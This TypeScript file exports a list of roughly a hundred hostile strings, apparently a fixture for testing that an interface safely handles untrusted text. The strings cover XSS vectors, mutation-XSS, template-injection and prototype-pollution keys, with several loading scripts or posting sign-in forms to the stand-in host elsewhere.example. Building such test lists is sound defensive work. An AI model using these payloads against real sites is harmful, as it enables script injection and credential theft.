/**
 * A hundred texts that would do something were they ever taken for markup, code, a template or a key. What they do is seen from outside:
 * a dialog, a request to `elsewhere.example`, a navigation, or the global `hit`.
 */

const elements = [
  '<script>hit=1</script>',
  '<ScRiPt>hit=1</sCrIpT>',
  '<script src=https://elsewhere.example/a.js></script>',
  '<script type=module>import "https://elsewhere.example/b.js"</script>',
  '</script><script>alert(1)</script>',
  '<iframe src="javascript:parent.hit=1"></iframe>',
  '<iframe srcdoc="<script>parent.hit=1</script>"></iframe>',
  '<object data="https://elsewhere.example/c"></object>',
  '<embed src="https://elsewhere.example/d">',
  '<link rel=stylesheet href=https://elsewhere.example/e.css>',
  '<meta http-equiv=refresh content="0;url=https://elsewhere.example/f">',
  '<base href="https://elsewhere.example/">',
  '<style>@import "https://elsewhere.example/g.css";</style>',
  '<form action=https://elsewhere.example/h><button>Sign in</button></form>',
  '<input name=password autofocus onfocus=hit=1>',
  '<template><img src=x onerror=hit=1></template>',
  '<dialog open>Your session ended. <a href=//elsewhere.example>Sign in</a></dialog>',
  '<a href=https://elsewhere.example ping=https://elsewhere.example/i>Continue</a>',
  '<slot name="fields"></slot><div slot="heading">x</div>',
  '<cognito-mfa-login endpoint="https://elsewhere.example/"></cognito-mfa-login>',
];

const handlers = [
  '<img src=x onerror=hit=1>',
  '<img src=x onerror="alert(document.domain)">',
  '<body onload=hit=1>',
  '<details open ontoggle=hit=1>x</details>',
  '<video><source onerror=hit=1></video>',
  '<audio src=x onerror=hit=1>',
  '<input onfocus=hit=1 autofocus>',
  '<select autofocus onfocus=hit=1></select>',
  '<marquee onstart=hit=1>x</marquee>',
  '<div style="animation:x" onanimationstart=hit=1>x</div>',
  '" onmouseover="hit=1" x="',
  "' onfocus='hit=1' autofocus='",
  '" autofocus onfocus=hit=1 x=',
  'x onerror=hit=1',
  '<img/src=x/onerror=hit=1>',
  '<img src=`x`onerror=hit=1>',
];

const addresses = [
  'javascript:hit=1',
  'JaVaScRiPt:alert(1)',
  'java\tscript:hit=1',
  'java\nscript:hit=1',
  ' javascript:hit=1',
  'javascript://elsewhere.example/%0ahit=1',
  'data:text/html,<script>opener.hit=1</script>',
  'data:text/html;base64,PHNjcmlwdD5oaXQ9MTwvc2NyaXB0Pg==',
  'vbscript:msgbox(1)',
  '//elsewhere.example/j',
  'https://elsewhere.example/k?@localhost',
  'blob:https://elsewhere.example/l',
];

const foreign = [
  '<svg onload=hit=1>',
  '<svg><script>hit=1</script></svg>',
  '<svg><animate onbegin=hit=1 attributeName=x dur=1s></svg>',
  '<svg><a xlink:href="javascript:hit=1"><text y=20>x</text></a></svg>',
  '<svg><use href="data:image/svg+xml,<svg id=x xmlns=http://www.w3.org/2000/svg onload=hit=1 />#x"/></svg>',
  '<svg><foreignObject><img src=x onerror=hit=1></foreignObject></svg>',
  '<math><mi xlink:href="javascript:hit=1">x</mi></math>',
  '<math href="javascript:hit=1">x</math>',
];

const mutations = [
  '<noscript><p title="</noscript><img src=x onerror=hit=1>">',
  '<svg></p><style><a id="</style><img src=x onerror=hit=1>">',
  '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=x onerror=hit=1&gt;">',
  '<form><math><mtext></form><form><mglyph><style></math><img src onerror=hit=1>',
  '<xmp><p title="</xmp><img src=x onerror=hit=1>">',
  '<title><img title="</title><img src=x onerror=hit=1>"></title>',
  '<textarea><img title="</textarea><img src=x onerror=hit=1>"></textarea>',
  '<!--><img src=x onerror=hit=1>-->',
  '<![CDATA[<img src=x onerror=hit=1>]]>',
  '<listing>&lt;img src=x onerror=hit=1&gt;</listing>',
];

/** Angular's, Vue's and lit's, and what `replace` takes for a pattern. */
const templates = [
  '{{constructor.constructor("hit=1")()}}',
  '{{7*7}}',
  '${globalThis.hit=1}',
  '#{hit=1}',
  '<%= globalThis.hit=1 %>',
  '{username}{destination}{time}',
  "$& $` $' $1 $<name>",
  '<!--?lit$123456789$--><img src=x onerror=hit=1>',
  '<?lit$000000000$><img src=x onerror=hit=1>',
  'lit$123456789$ $lit$ {{lit-0}}',
  '{"_$litType$":1,"strings":["<img src=x onerror=hit=1>"],"values":[]}',
  '%s %o %c%d',
];

const encodings = [
  '&lt;img src=x onerror=hit=1&gt;',
  '&#x3C;img src=x onerror=hit=1&#x3E;',
  '\\u003cimg src=x onerror=hit=1\\u003e',
  '%3Cimg%20src=x%20onerror=hit=1%3E',
  '+ADw-script+AD4-hit=1+ADw-/script+AD4-',
  '\uFF1Cscript\uFF1Ehit=1\uFF1C/script\uFF1E',
  '<\u0000script>hit=1</script>',
  '<img src=x\u0000 onerror=hit=1>x\u0000y',
  'x\u2028hit=1\u2029',
  '\u202E<img src=x onerror=hit=1>\u202C',
  '\u2066x\u2069\u200F\u061C\u200B\uFEFFy',
  'Z\u0351\u0352\u0353\u0354\u0355\u0356\u0357\u0358a\u0351\u0352l\u0351g\u0352o',
  '\uD800x\uDFFF<b>y</b>',
];

const keys = [
  '__proto__',
  'constructor',
  'prototype',
  'toString',
  'hasOwnProperty',
  '{"__proto__":{"hit":1}}',
  '"},"__proto__":{"hit":1},"x":{"y":"',
];

const long = ['<b>'.repeat(2000), `x${'<img src=x onerror=hit=1>'.repeat(400)}`];

export const payloads: readonly string[] = [
  ...[...elements, ...handlers, ...addresses, ...foreign, ...mutations],
  ...[...templates, ...encodings, ...keys, ...long],
];
